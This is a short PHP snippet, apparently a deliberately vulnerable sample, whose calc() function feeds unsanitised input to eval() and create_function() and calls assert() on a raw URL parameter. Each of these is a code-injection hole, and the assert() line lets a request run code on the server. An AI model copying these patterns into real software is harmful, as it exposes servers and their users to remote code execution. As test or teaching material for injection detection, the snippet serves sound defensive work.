<?php
function calc($expression) {
    eval('$result = ' . $expression . ';');
    assert($_GET['check']);
    $f = create_function('$a', $expression);
    return $f;
}
